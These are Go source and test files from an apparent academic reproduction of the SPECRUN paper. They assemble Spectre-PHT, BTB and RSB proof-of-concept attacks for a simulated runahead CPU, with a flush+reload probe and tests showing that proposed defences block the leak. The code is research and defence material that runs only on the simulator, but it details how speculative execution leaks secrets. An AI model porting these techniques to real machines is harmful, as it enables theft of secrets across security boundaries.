// scenario ① from the in-flight high-water mark behind the stalled load,
// scenarios ②/③ from the deepest pseudo-retirement reach of any episode.
func MeasureWindow(base cpu.Config, s WindowScenario) (WindowResult, error) {
	cfg := base
	if s == Window1NormalFlushOnce {
		cfg.Runahead.Kind = runahead.KindNone
	} else if cfg.Runahead.Kind == runahead.KindNone {
		cfg.Runahead.Kind = runahead.KindOriginal
	}
	prog := BuildWindowProgram(s)
	c := cpu.New(cfg, prog)
	if err := c.Run(runBudget); err != nil {
		return WindowResult{}, fmt.Errorf("attack: window %v: %w", s, err)
	}
	st := c.Stats()
	r := WindowResult{
		Scenario: s,
		Episodes: st.RunaheadEpisodes,
		Reaches:  append([]uint64(nil), st.EpisodeReaches...),
	}
	if s == Window1NormalFlushOnce {
		r.N = st.MaxStallWindow
	} else {
		r.N = st.MaxEpisodeReach()
	}
	return r, nil
}

// MeasureAllWindows reproduces the full Fig. 10 triple (N1, N2, N3).
func MeasureAllWindows(base cpu.Config) (n1, n2, n3 WindowResult, err error) {
	return MeasureAllWindowsCtx(context.Background(), base, 0)
}

// MeasureAllWindowsCtx is MeasureAllWindows with cancellation and an
// explicit worker count (0 = GOMAXPROCS); the three scenarios simulate
// concurrently on the sweep engine.
func MeasureAllWindowsCtx(ctx context.Context, base cpu.Config, workers int) (n1, n2, n3 WindowResult, err error) {
	scenarios := []WindowScenario{Window1NormalFlushOnce, Window2RunaheadFlushOnce, Window3RunaheadFlushRepeat}
	results, err := sweep.First(ctx, scenarios, func(_ context.Context, s WindowScenario) (WindowResult, error) {
		return MeasureWindow(base, s)
	}, sweep.Options{Workers: workers})
	if err != nil {
		return
	}
	return results[0], results[1], results[2], nil
}
