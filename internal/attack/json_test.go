package attack

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"specrun/internal/cpu"
)

// TestParamsJSONRoundTrip pins the request wire format for every variant.
func TestParamsJSONRoundTrip(t *testing.T) {
	for _, v := range []Variant{VariantPHT, VariantBTB, VariantRSBOverwrite, VariantRSBFlush} {
		p := DefaultParams()
		p.Variant = v
		p.Secret = []byte("KEY")
		p.NopPad = 300
		b, err := json.Marshal(p)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(b), `"variant": "`+v.String()+`"`) &&
			!strings.Contains(string(b), `"variant":"`+v.String()+`"`) {
			t.Fatalf("variant not encoded as text: %s", b)
		}
		var got Params
		if err := json.Unmarshal(b, &got); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(p, got) {
			t.Fatalf("round trip mutated params:\n%s", b)
		}
	}
	// Unknown tokens fail loudly.
	var p Params
	if err := json.Unmarshal([]byte(`{"variant": "meltdown"}`), &p); err == nil {
		t.Fatal("unknown variant token accepted")
	}
}

func TestResultJSONRoundTrip(t *testing.T) {
	r := Result{
		Analysis: Analysis{Latencies: []uint64{250, 8, 250}, BestIdx: 1, BestLat: 8, Median: 250, Leaked: true},
		Layout:   Layout{Array1: 0x1000, Array1Size: 16, D: 0x800, Array2: 0x4000, Results: 0x5000, Secret: 0x1400, MaliciousX: 1025, Stride: 512},
		Stats:    cpu.Stats{Cycles: 12345, Committed: 6789, RunaheadEpisodes: 1, EpisodeReaches: []uint64{480}},
	}
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	// The embedded Analysis flattens: latencies sits at the top level.
	var shape map[string]any
	if err := json.Unmarshal(b, &shape); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"latencies", "best_idx", "layout", "stats"} {
		if _, ok := shape[key]; !ok {
			t.Fatalf("wire shape missing %q: %s", key, b)
		}
	}
	var got Result
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(r, got) {
		t.Fatalf("round trip mutated the result:\n%s", b)
	}
}

func TestWindowResultJSONRoundTrip(t *testing.T) {
	for _, s := range []WindowScenario{Window1NormalFlushOnce, Window2RunaheadFlushOnce, Window3RunaheadFlushRepeat} {
		w := WindowResult{Scenario: s, N: 480, Episodes: 1, Reaches: []uint64{480}}
		b, err := json.Marshal(w)
		if err != nil {
			t.Fatal(err)
		}
		var got WindowResult
		if err := json.Unmarshal(b, &got); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(w, got) {
			t.Fatalf("scenario %v: round trip mutated the result:\n%s", s, b)
		}
	}
	var w WindowResult
	if err := json.Unmarshal([]byte(`{"scenario": "warp-speed"}`), &w); err == nil {
		t.Fatal("unknown scenario token accepted")
	}
}
