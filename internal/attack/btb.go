package attack

import (
	"specrun/internal/asm"
	"specrun/internal/branch"
	"specrun/internal/cpu"
	"specrun/internal/isa"
)

// BTB aliasing geometry for the SpectreBTB PoC: with 128 sets and 4 tag
// bits, two indirect-branch PCs 4*128*16 = 8192 bytes apart share a BTB
// entry, so the attacker's own indirect call trains the prediction consulted
// by the victim's call (Fig. 4a).
const (
	btbAttackSets    = 128
	btbAttackTagBits = 4
	btbAliasDistance = 4 * btbAttackSets * (1 << btbAttackTagBits)
)

// ConfigFor returns base adjusted for the needs of the given variant: the
// BTB variant narrows the BTB tags so the aliased training lands in the
// victim's entry (real BTBs store partial tags; the default simulator
// configuration uses full tags).
func ConfigFor(v Variant, base cpu.Config) cpu.Config {
	if v == VariantBTB {
		base.Branch.BTBSets = btbAttackSets
		base.Branch.BTBTagBits = btbAttackTagBits
	}
	return base
}

// DefaultBranchConfigForBTB exposes the aliasing predictor geometry (tests).
func DefaultBranchConfigForBTB() branch.Config {
	cfg := branch.DefaultConfig()
	cfg.BTBSets = btbAttackSets
	cfg.BTBTagBits = btbAttackTagBits
	return cfg
}

// buildBTB assembles the Fig. 4a PoC.
//
// The victim makes an indirect call through a function pointer in memory
// (architecturally always &safe_fn).  The attacker repeatedly executes an
// indirect call of her own at a BTB-congruent address targeting the gadget,
// which trains the shared BTB entry.  For the attack she flushes the
// function-pointer line: the victim's pointer load becomes the stalling
// load, runahead mode begins, the indirect call has an INV target and never
// resolves (§4.4), and the machine follows the poisoned BTB prediction into
// the gadget.
func buildBTB(p Params) (*asm.Program, Layout, error) {
	b := asm.NewBuilder(0x1000, 0x100000)
	l := layoutData(b, p)
	fptr := b.Alloc("victim_fp", 64, 64)
	prologue(b, l)

	// victim_fp = &safe_fn (set up architecturally, then flushed).
	b.MoviAddr(rT2, fptr)
	b.MoviLabel(rT1, "safe_fn")
	b.St(rT2, 0, rT1)

	// Train the aliased BTB entry: the attacker's own indirect call, at a
	// PC congruent with the victim's, architecturally calls the gadget with
	// a benign argument.
	b.MoviLabel(rT3, "gadget")
	b.Movi(rArg, 1) // benign in-bounds index during training
	b.Movi(rI, int64(p.TrainingRounds))
	b.Label("btrain")
	trainCallPC := b.PC()
	b.Callr(rT3)
	b.Addi(rI, rI, -1)
	b.Bne(rI, isa.R(0), "btrain")

	// Attack: flush the probe array and the victim's function pointer, then
	// enter the victim with the malicious index.
	flushArray2(b, p, "flush_probe")
	b.MoviAddr(rFlushA, fptr)
	b.Clflush(rFlushA, 0)
	b.Fence()
	b.Movi(rArg, int64(l.MaliciousX))
	b.Call("victim")
	waitLoop(b, "wait", 600)
	probeLoop(b, p, "probe")
	b.Halt()

	// Place the victim's indirect call exactly one alias distance after the
	// training call: same BTB set, same partial tag.
	victimCallPC := trainCallPC + btbAliasDistance
	b.PadTo(victimCallPC - 2*isa.InstBytes)
	b.Label("victim")
	b.MoviAddr(rVT, fptr)
	b.Ld(rVT, rVT, 0) // stalling load: the function pointer
	b.Callr(rVT)      // INV target in runahead: follows the poisoned BTB
	b.Ret()

	b.Label("safe_fn")
	b.Ret()

	// The gadget: the Fig. 3 body behind the aliased target.
	b.Label("gadget")
	b.NopN(p.NopPad)
	b.Add(rVA, rArr1, rArg)
	b.Ldb(rS, rVA, 0)
	b.Shli(rVT, rS, shiftFor(p.ProbeStride))
	b.Add(rVT, rArr2, rVT)
	b.Ldb(rZ, rVT, 0)
	b.Ret()

	prog, err := b.Build()
	if err != nil {
		return nil, Layout{}, err
	}
	return prog, l, nil
}
