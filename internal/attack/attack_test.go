package attack

import (
	"bytes"
	"testing"

	"specrun/internal/cpu"
	"specrun/internal/runahead"
)

// TestFig9PHTLeak reproduces Fig. 9: after the SPECRUN PoC, the probe-array
// access time dips exactly at the secret index (86 in the paper).
func TestFig9PHTLeak(t *testing.T) {
	r, err := Run(cpu.DefaultConfig(), DefaultParams())
	if err != nil {
		t.Fatal(err)
	}
	b, ok := r.LeakedByte()
	if !ok || b != 86 {
		t.Fatalf("leaked %d (ok=%v), want 86; best=%d lat=%d median=%d",
			b, ok, r.BestIdx, r.BestLat, r.Median)
	}
	// The covert-channel signal must be unambiguous: one deep dip.
	low := 0
	for _, v := range r.Latencies {
		if v < r.Median/hitFactor {
			low++
		}
	}
	if low != 1 {
		t.Fatalf("%d indices below threshold, want exactly 1", low)
	}
}

// TestFig11BeyondROB reproduces Fig. 11: with the secret access pushed past
// the reorder buffer by NOP padding, only the runahead machine leaks (at
// index 127 in the paper); the no-runahead machine shows no latency drop.
func TestFig11BeyondROB(t *testing.T) {
	p := DefaultParams()
	p.Secret = []byte{127}
	p.NopPad = 300

	ra, err := Run(cpu.DefaultConfig(), p)
	if err != nil {
		t.Fatal(err)
	}
	if b, ok := ra.LeakedByte(); !ok || b != 127 {
		t.Errorf("runahead machine: leaked %d ok=%v, want 127", b, ok)
	}
	if ra.Stats.RunaheadEpisodes == 0 || ra.Stats.INVBranches == 0 {
		t.Error("the runahead leak must come from an unresolved branch in runahead mode")
	}

	no := cpu.DefaultConfig()
	no.Runahead.Kind = runahead.KindNone
	rNo, err := Run(no, p)
	if err != nil {
		t.Fatal(err)
	}
	if rNo.Leaked {
		t.Errorf("no-runahead machine leaked index %d — the ROB bound should prevent it", rNo.BestIdx)
	}
}

// TestVariantsLeak exercises §4.4: SpectreBTB and both SpectreRSB forms leak
// under runahead execution.
func TestVariantsLeak(t *testing.T) {
	for _, v := range []Variant{VariantBTB, VariantRSBOverwrite, VariantRSBFlush} {
		t.Run(v.String(), func(t *testing.T) {
			p := DefaultParams()
			p.Variant = v
			p.Secret = []byte{99}
			if v == VariantBTB {
				// The BTB gadget is architecturally warmed by training, so
				// it can carry Fig. 11-style padding too.
				p.NopPad = 300
			}
			cfg := ConfigFor(v, cpu.DefaultConfig())
			r, err := Run(cfg, p)
			if err != nil {
				t.Fatal(err)
			}
			if b, ok := r.LeakedByte(); !ok || b != 99 {
				t.Fatalf("leaked %d ok=%v, want 99 (best=%d lat=%d median=%d)",
					b, ok, r.BestIdx, r.BestLat, r.Median)
			}
		})
	}
}

// TestRunaheadVariantsLeak exercises §4.3: the PHT attack also works on the
// precise-runahead and vector-runahead machines.
func TestRunaheadVariantsLeak(t *testing.T) {
	for _, kind := range []runahead.Kind{runahead.KindPrecise, runahead.KindVector} {
		t.Run(kind.String(), func(t *testing.T) {
			p := DefaultParams()
			p.Secret = []byte{42}
			p.NopPad = 300 // force the leak through the runahead window
			cfg := cpu.DefaultConfig()
			cfg.Runahead.Kind = kind
			r, err := Run(cfg, p)
			if err != nil {
				t.Fatal(err)
			}
			if r.Stats.RunaheadEpisodes == 0 {
				t.Fatal("no runahead episodes")
			}
			if b, ok := r.LeakedByte(); !ok || b != 42 {
				t.Fatalf("leaked %d ok=%v, want 42", b, ok)
			}
		})
	}
}

// TestDefenseBlocksLeak verifies §6: both the SL-cache scheme and the
// skip-INV-branch restriction stop the Fig. 11 attack.
func TestDefenseBlocksLeak(t *testing.T) {
	p := DefaultParams()
	p.Secret = []byte{127}
	p.NopPad = 300

	t.Run("sl-cache", func(t *testing.T) {
		cfg := cpu.DefaultConfig()
		cfg.Secure.Enabled = true
		r, err := Run(cfg, p)
		if err != nil {
			t.Fatal(err)
		}
		if r.Stats.RunaheadEpisodes == 0 {
			t.Fatal("secure machine never entered runahead (defense untested)")
		}
		if r.Leaked {
			t.Fatalf("secure runahead leaked index %d", r.BestIdx)
		}
	})
	t.Run("skip-inv-branch", func(t *testing.T) {
		cfg := cpu.DefaultConfig()
		cfg.Runahead.SkipINVBranch = true
		r, err := Run(cfg, p)
		if err != nil {
			t.Fatal(err)
		}
		if r.Stats.SkipBarriers == 0 {
			t.Fatal("mitigation never engaged")
		}
		if r.Leaked {
			t.Fatalf("skip-INV-branch machine leaked index %d", r.BestIdx)
		}
	})
}

// TestDefenseDoesNotBreakVictim: under the secure scheme the victim still
// computes correctly (the PoC halts and the probe ran).
func TestDefenseDoesNotBreakVictim(t *testing.T) {
	cfg := cpu.DefaultConfig()
	cfg.Secure.Enabled = true
	r, err := Run(cfg, DefaultParams())
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Latencies) != probeCount {
		t.Fatal("probe loop did not complete")
	}
}

// TestLeakSecretMultiByte extracts a multi-byte secret end to end, as the
// paper's attacker would, byte by byte.
func TestLeakSecretMultiByte(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-byte extraction is slow")
	}
	secret := []byte("SPECRUN")
	p := DefaultParams()
	p.Secret = secret
	got, results, err := LeakSecret(cpu.DefaultConfig(), p)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, secret) {
		t.Fatalf("recovered %q, want %q", got, secret)
	}
	for i, r := range results {
		if !r.Leaked {
			t.Errorf("byte %d: channel did not fire", i)
		}
	}
}

// TestFig10Windows reproduces the N1/N2/N3 shape of Fig. 10: N1 is bounded
// by the ROB (255 on the Table 1 machine), a single runahead episode exceeds
// it, and repeated flushing goes substantially further.
func TestFig10Windows(t *testing.T) {
	n1, n2, n3, err := MeasureAllWindows(cpu.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("N1=%d N2=%d N3=%d", n1.N, n2.N, n3.N)
	if n1.N != 255 {
		t.Errorf("N1 = %d, want exactly ROB-1 = 255", n1.N)
	}
	if n1.Episodes != 0 {
		t.Errorf("scenario ① must not enter runahead")
	}
	if n2.N <= n1.N {
		t.Errorf("N2 = %d must exceed the ROB bound %d", n2.N, n1.N)
	}
	if n3.N < 2*n2.N {
		t.Errorf("N3 = %d should substantially exceed N2 = %d", n3.N, n2.N)
	}
	if n3.N <= 700 || n3.N >= 1000 {
		t.Errorf("N3 = %d outside the calibrated band (paper: 840)", n3.N)
	}
}

// TestAnalyze covers the classifier on synthetic sweeps.
func TestAnalyze(t *testing.T) {
	flat := make([]uint64, probeCount)
	for i := range flat {
		flat[i] = 240
	}
	a := Analyze(flat)
	if a.Leaked {
		t.Error("flat sweep must not classify as leaked")
	}
	dip := append([]uint64(nil), flat...)
	dip[86] = 10
	a = Analyze(dip)
	if b, ok := a.LeakedByte(); !ok || b != 86 {
		t.Errorf("dip sweep: leaked %d ok=%v", b, ok)
	}
	if a := Analyze(nil); a.Leaked || a.BestIdx != -1 {
		t.Error("empty sweep must not leak")
	}
}

// TestBuildValidation covers parameter validation.
func TestBuildValidation(t *testing.T) {
	p := DefaultParams()
	p.Secret = nil
	if _, _, err := Build(p); err == nil {
		t.Error("empty secret must fail")
	}
	p = DefaultParams()
	p.SecretIdx = 5
	if _, _, err := Build(p); err == nil {
		t.Error("out-of-range secret index must fail")
	}
	p = DefaultParams()
	p.Variant = Variant(99)
	if _, _, err := Build(p); err == nil {
		t.Error("unknown variant must fail")
	}
}
