package attack

import (
	"specrun/internal/asm"
	"specrun/internal/isa"
)

// buildRSBOverwrite assembles the Fig. 4b PoC ("direct overwrite").
//
// The victim function overwrites its own on-stack return address with a
// pointer F loaded from memory; the attacker flushes F's line, so the
// overwrite store's data — and therefore the return's resolution — depend on
// a stalling load.  The RSB still holds the original return address, which
// points at the gadget placed directly after the call site.  During the
// runahead episode the return pops poisoned data, never resolves, and the
// machine follows the RSB into the gadget.
func buildRSBOverwrite(p Params) (*asm.Program, Layout, error) {
	b := asm.NewBuilder(0x1000, 0x100000)
	l := layoutData(b, p)
	fptr := b.Alloc("redirect_ptr", 64, 64)
	prologue(b, l)

	// redirect_ptr = &after: the architectural landing site.
	b.MoviAddr(rT2, fptr)
	b.MoviLabel(rT1, "after")
	b.St(rT2, 0, rT1)

	flushArray2(b, p, "flush_probe")
	b.MoviAddr(rFlushA, fptr)
	b.Clflush(rFlushA, 0) // associate the polluted value F with a stalling load
	b.Fence()
	b.Movi(rArg, int64(l.MaliciousX))
	b.Call("victim")
	// The gadget sits at the call's return site: the RSB predicts it, the
	// architectural return address (overwritten with &after) skips it.
	b.NopN(p.NopPad)
	b.Add(rVA, rArr1, rArg)
	b.Ldb(rS, rVA, 0)
	b.Shli(rVT, rS, shiftFor(p.ProbeStride))
	b.Add(rVT, rArr2, rVT)
	b.Ldb(rZ, rVT, 0)
	b.Label("after")
	waitLoop(b, "wait", 600)
	probeLoop(b, p, "probe")
	b.Halt()

	b.Label("victim")
	b.MoviAddr(rVT, fptr)
	b.Ld(rVT, rVT, 0)    // stalling load: the replacement return address F
	b.St(isa.SP, 0, rVT) // mov [rsp], F (Fig. 4b)
	b.Ret()              // arch -> after; RSB -> gadget

	prog, err := b.Build()
	if err != nil {
		return nil, Layout{}, err
	}
	return prog, l, nil
}

// buildRSBFlush assembles the Fig. 4c PoC (stack eviction).
//
// A helper call leaves a stale RSB entry pointing at the gadget (the helper
// discards its architectural return address and jumps back instead of
// returning).  The victim then flushes the stack line holding its own return
// address: the return's pop misses to memory, the return itself becomes the
// stalling load that triggers runahead, and the machine follows the stale
// RSB entry into the gadget while the real target is still in flight.
func buildRSBFlush(p Params) (*asm.Program, Layout, error) {
	b := asm.NewBuilder(0x1000, 0x100000)
	l := layoutData(b, p)
	prologue(b, l)

	flushArray2(b, p, "flush_probe")
	b.Fence()
	b.Movi(rArg, int64(l.MaliciousX))
	b.Call("victim")
	b.Label("cont")
	waitLoop(b, "wait", 600)
	probeLoop(b, p, "probe")
	b.Halt()

	b.Label("victim")
	b.Call("manip") // pushes an RSB entry pointing at the gadget below
	// gadget: architecturally never executed (manip discards the return).
	b.NopN(p.NopPad)
	b.Add(rVA, rArr1, rArg)
	b.Ldb(rS, rVA, 0)
	b.Shli(rVT, rS, shiftFor(p.ProbeStride))
	b.Add(rVT, rArr2, rVT)
	b.Ldb(rZ, rVT, 0)
	b.Label("vf_cont")
	b.Clflush(isa.SP, 0) // evict the victim's stack line (Fig. 4c)
	b.Fence()
	b.Ret() // the pop misses: the return IS the stalling load

	b.Label("manip")
	b.Addi(isa.SP, isa.SP, 8) // discard the architectural return address
	b.Jmp("vf_cont")          // leave the RSB entry stale

	prog, err := b.Build()
	if err != nil {
		return nil, Layout{}, err
	}
	return prog, l, nil
}
