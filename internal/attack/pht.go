package attack

import (
	"specrun/internal/asm"
	"specrun/internal/isa"
)

// buildPHT assembles the Fig. 8 PoC.
//
// The attacker runs T+1 trips through one loop whose body is identical on
// every trip (branchless selection of the victim argument and of the flush
// target), so the global branch history at the victim's bounds check is the
// same during training and attack — the PHT entry poisoned by training is
// exactly the one consulted by the attack call.
//
// Trips i = T .. 1 (training): x is in bounds, D stays cached, the victim's
// branch retires not-taken and trains the predictor toward the body.
// Trip i = 0 (attack): x = &secret - &array1, D is flushed; the victim's
// bound load misses to memory, reaches the ROB head and triggers runahead
// execution; the bounds check has an INV source and never resolves (§2.1),
// so the machine follows the trained prediction into the body and the
// transient secret access transmits through array2.  Afterwards the probe
// loop times every array2 slot (Fig. 8 lines 17-22).
func buildPHT(p Params) (*asm.Program, Layout, error) {
	b := asm.NewBuilder(0x1000, 0x100000)
	l := layoutData(b, p)
	prologue(b, l)

	b.Movi(rI, int64(p.TrainingRounds))
	b.Label("iter")
	lastIterMask(b)
	selectByMask(b, rArg, rBadX, rInX)   // x = last ? malicious : in-bounds
	selectByMask(b, rFlushA, rD, rDummy) // flush target = last ? D : dummy
	flushArray2(b, p, "flush_probe")     // step 4 precondition, every trip
	b.Clflush(rFlushA, 0)                // step 2: trigger runahead (last trip)
	b.Fence()
	b.Call("victim")
	waitLoop(b, "wait", 600) // Fig. 8 line 16: wait out the episode
	b.Addi(rI, rI, -1)
	b.Bge(rI, isa.R(0), "iter")

	probeLoop(b, p, "probe")
	b.Halt()

	// victim_function (Fig. 8 lines 1-7).
	b.Label("victim")
	b.Ld(rBound, rD, 0)          // array1_size = f(D): the stalling load
	b.Bge(rArg, rBound, "v_end") // the poisoned bounds check
	b.NopN(p.NopPad)             // Fig. 11: push the access beyond the ROB
	b.Add(rVA, rArr1, rArg)
	b.Ldb(rS, rVA, 0) // S = array1[x] — the secret access
	b.Shli(rVT, rS, shiftFor(p.ProbeStride))
	b.Add(rVT, rArr2, rVT)
	b.Ldb(rZ, rVT, 0) // transmit: array2[S * N]
	b.Label("v_end")
	b.Ret()

	prog, err := b.Build()
	if err != nil {
		return nil, Layout{}, err
	}
	return prog, l, nil
}
