// Package attack implements the SPECRUN proof-of-concept attacks of §4 and
// §5 of the paper: the SpectrePHT-style PoC of Fig. 8 (including the
// nop-padded beyond-the-ROB variant of Fig. 11), the SpectreBTB and
// SpectreRSB variants of Fig. 4, the flush+reload covert-channel probe and
// its analysis, and the transient-window measurements of Fig. 10.
//
// Attacker and victim are expressed as one program, exactly like the PoC in
// Fig. 8 of the paper: the "victim" is a function holding a secret and a
// bounds-checked access; the "attacker" trains the predictor through the
// victim's own entry points, triggers runahead execution with CLFLUSH, and
// probes the shared cache with RDTSC.
package attack

import (
	"fmt"

	"specrun/internal/asm"
	"specrun/internal/cpu"
	"specrun/internal/isa"
)

// Variant selects the Spectre training mechanism (§4.4).
type Variant int

const (
	// VariantPHT poisons the pattern history table (Fig. 8).
	VariantPHT Variant = iota
	// VariantBTB aliases a branch-target-buffer entry (Fig. 4a).
	VariantBTB
	// VariantRSBOverwrite overwrites the on-stack return address, leaving
	// the RSB pointing at the gadget (Fig. 4b).
	VariantRSBOverwrite
	// VariantRSBFlush evicts the victim's stack line so the return itself
	// becomes the stalling load (Fig. 4c).
	VariantRSBFlush
)

func (v Variant) String() string {
	switch v {
	case VariantPHT:
		return "pht"
	case VariantBTB:
		return "btb"
	case VariantRSBOverwrite:
		return "rsb-overwrite"
	case VariantRSBFlush:
		return "rsb-flush"
	}
	return "unknown"
}

// MarshalText renders the variant as its String form, so parameters
// serialise to stable, human-readable JSON ("pht" rather than 0).
func (v Variant) MarshalText() ([]byte, error) { return []byte(v.String()), nil }

// UnmarshalText parses the String form.
func (v *Variant) UnmarshalText(text []byte) error {
	switch s := string(text); s {
	case "pht", "":
		*v = VariantPHT
	case "btb":
		*v = VariantBTB
	case "rsb-overwrite":
		*v = VariantRSBOverwrite
	case "rsb-flush":
		*v = VariantRSBFlush
	default:
		return fmt.Errorf("attack: unknown variant %q", s)
	}
	return nil
}

// Params configures a PoC build.  The JSON tags define the stable wire
// format used by the HTTP API; Secret is base64 on the wire (encoding/json's
// []byte convention), so secret byte 86 is "Vg==".
type Params struct {
	Variant        Variant `json:"variant"`
	Secret         []byte  `json:"secret"`          // bytes planted beyond the bounds-checked region
	SecretIdx      int     `json:"secret_idx"`      // which secret byte this run extracts
	TrainingRounds int     `json:"training_rounds"` // T in Fig. 8
	ProbeStride    int     `json:"probe_stride"`    // N in Fig. 8 (bytes between probe entries)
	NopPad         int     `json:"nop_pad"`         // nops between the branch and the secret access (Fig. 11)
}

// DefaultParams returns the Fig. 8/9 configuration: T=16 trainings, N=512,
// secret byte 86 ('V'), no padding.
func DefaultParams() Params {
	return Params{
		Variant:        VariantPHT,
		Secret:         []byte{86},
		TrainingRounds: 16,
		ProbeStride:    512,
	}
}

// Layout reports the addresses the driver needs to interpret results.
type Layout struct {
	Array1     uint64 `json:"array1"`      // bounds-checked array base
	Array1Size uint64 `json:"array1_size"` // value of the bound (stored at D)
	D          uint64 `json:"d"`           // the flushed datum: the bound lives here (array1_size = f(D))
	Array2     uint64 `json:"array2"`      // probe array base (256 * ProbeStride bytes)
	Results    uint64 `json:"results"`     // 256 u64 latencies written by the probe loop
	Secret     uint64 `json:"secret"`      // where the secret bytes were planted
	MaliciousX uint64 `json:"malicious_x"` // out-of-bounds index used by the attack call
	Stride     uint64 `json:"stride"`
}

// Attacker/victim register conventions shared by the variants.
var (
	rArr1    = isa.R(1)
	rArr2    = isa.R(2)
	rD       = isa.R(3)
	rResults = isa.R(4)
	rDummy   = isa.R(5)
	rInX     = isa.R(6)
	rBadX    = isa.R(7)
	rI       = isa.R(8)
	rMask    = isa.R(9)
	rNotM    = isa.R(10)
	rFlushA  = isa.R(11)
	rArg     = isa.R(12) // victim argument: the index x
	rT1      = isa.R(13)
	rT2      = isa.R(14)
	rT3      = isa.R(15)
	rJ       = isa.R(16)
	rLim     = isa.R(17)
	rOnes    = isa.R(18)
	// Victim-side scratch.
	rBound = isa.R(20)
	rVA    = isa.R(21)
	rS     = isa.R(22)
	rVT    = isa.R(23)
	rZ     = isa.R(24)
)

const (
	array1Bound = 16   // architectural size of array1
	secretDist  = 1024 // distance from array1 to the planted secret
	probeCount  = 256
)

// layoutData allocates and initialises the shared data segments.
func layoutData(b *asm.Builder, p Params) Layout {
	var l Layout
	l.Stride = uint64(p.ProbeStride)
	l.D = b.Alloc("D", 64, 64)
	// array1 and the secret share one region so that the secret sits at a
	// fixed out-of-bounds offset from array1 (the paper's "target address").
	l.Array1 = b.Alloc("array1", secretDist+uint64(len(p.Secret))+64, 64)
	l.Secret = l.Array1 + secretDist
	b.Equ("secret", l.Secret)
	b.Bytes(l.Secret, p.Secret)
	l.Array2 = b.Alloc("array2", uint64(probeCount*p.ProbeStride), 4096)
	l.Results = b.Alloc("results", probeCount*8, 64)
	b.Alloc("dummy", 64, 64)
	b.Alloc("stack", 4096, 64)
	l.Array1Size = array1Bound
	// The bound is stored at D: array1_size = f(D) with f = identity, which
	// preserves exactly what the paper needs — the branch predicate depends
	// on the flushed datum D (Fig. 3).
	b.U64(l.D, array1Bound)
	// array1 holds small in-bounds values.
	vals := make([]byte, array1Bound)
	for i := range vals {
		vals[i] = byte(i)
	}
	b.Bytes(l.Array1, vals)
	l.MaliciousX = uint64(secretDist + p.SecretIdx)
	return l
}

// prologue sets up the attacker's registers.
func prologue(b *asm.Builder, l Layout) {
	b.MoviAddr(isa.SP, mustSym(b, "stack")+4096)
	b.MoviAddr(rArr1, l.Array1)
	b.MoviAddr(rArr2, l.Array2)
	b.MoviAddr(rD, l.D)
	b.MoviAddr(rResults, l.Results)
	b.MoviAddr(rDummy, mustSym(b, "dummy"))
	b.Movi(rOnes, -1)
	b.Movi(rInX, 1) // in-bounds training index
	b.Movi(rBadX, int64(l.MaliciousX))
	// The victim legitimately uses its secret (e.g. as a key), so its line
	// is warm — the paper's threat model has the secret resident in the
	// victim's working set.
	b.MoviAddr(rVT, l.Secret)
	b.Ldb(rZ, rVT, 0)
}

// lastIterMask computes rMask = ^0 when rI == 0 (the attack iteration) and 0
// otherwise, branchlessly, so every trip through the training loop executes
// an identical instruction sequence and the global history at the victim
// branch matches between training and attack.
func lastIterMask(b *asm.Builder) {
	b.Sub(rT1, isa.R(0), rI) // -i
	b.Or(rT1, rT1, rI)       // i | -i : bit 63 set iff i != 0
	b.Shri(rT1, rT1, 63)     // 1 if i != 0
	b.Addi(rMask, rT1, -1)   // 0 if i != 0, ^0 if i == 0
	b.Xor(rNotM, rMask, rOnes)
}

// selectByMask emits rd = (a & mask) | (b & ^mask).
func selectByMask(b *asm.Builder, rd, a, bb isa.Reg) {
	b.And(rT2, a, rMask)
	b.And(rT3, bb, rNotM)
	b.Or(rd, rT2, rT3)
}

// flushArray2 emits the probe-array flush loop (Fig. 8 precondition: the
// covert channel starts cold).
func flushArray2(b *asm.Builder, p Params, label string) {
	b.Movi(rJ, 0)
	b.Movi(rLim, probeCount)
	b.Label(label)
	b.Shli(rT1, rJ, shiftFor(p.ProbeStride))
	b.Add(rT1, rArr2, rT1)
	b.Clflush(rT1, 0)
	b.Addi(rJ, rJ, 1)
	b.Blt(rJ, rLim, label)
}

// probeLoop emits the Fig. 8 measurement loop (lines 17-22): for each j,
// time a load of array2[j*N] with RDTSC and store the latency to results[j].
// The per-iteration fence keeps the instruction window nearly empty, so a
// probe miss cannot itself trigger a runahead episode (which would prefetch
// the remaining probe entries and erase the signal) — the same reason real
// flush+reload probes serialise with lfence around rdtscp.
func probeLoop(b *asm.Builder, p Params, label string) {
	b.Fence()
	b.Movi(rJ, 0)
	b.Movi(rLim, probeCount)
	b.Label(label)
	b.Fence()
	b.Shli(rT3, rJ, shiftFor(p.ProbeStride))
	b.Add(rT3, rArr2, rT3)
	b.Rdtsc(rT1)
	b.Ldb(rZ, rT3, 0)
	b.Rdtsc(rT2)
	b.Sub(rT2, rT2, rT1)
	b.Shli(rT1, rJ, 3)
	b.Add(rT1, rResults, rT1)
	b.St(rT1, 0, rT2)
	b.Addi(rJ, rJ, 1)
	b.Blt(rJ, rLim, label)
}

// waitLoop emits the Fig. 8 line 16 delay (`<some_operations> // waiting for
// the victim's execution`): a serial countdown that outlasts the runahead
// episode, so the episode's transient execution is trapped here and cannot
// reach (and self-prefetch) the probe loop.
func waitLoop(b *asm.Builder, label string, iters int64) {
	b.Movi(rT1, iters)
	b.Label(label)
	b.Addi(rT1, rT1, -1)
	b.Bne(rT1, isa.R(0), label)
}

func shiftFor(stride int) int64 {
	s := int64(0)
	for v := stride; v > 1; v >>= 1 {
		s++
	}
	if 1<<s != stride {
		panic(fmt.Sprintf("attack: probe stride %d is not a power of two", stride))
	}
	return s
}

func mustSym(b *asm.Builder, name string) uint64 {
	return b.MustSymNow(name)
}

// Build assembles the PoC for the selected variant.
func Build(p Params) (*asm.Program, Layout, error) {
	if len(p.Secret) == 0 {
		return nil, Layout{}, fmt.Errorf("attack: empty secret")
	}
	if p.SecretIdx < 0 || p.SecretIdx >= len(p.Secret) {
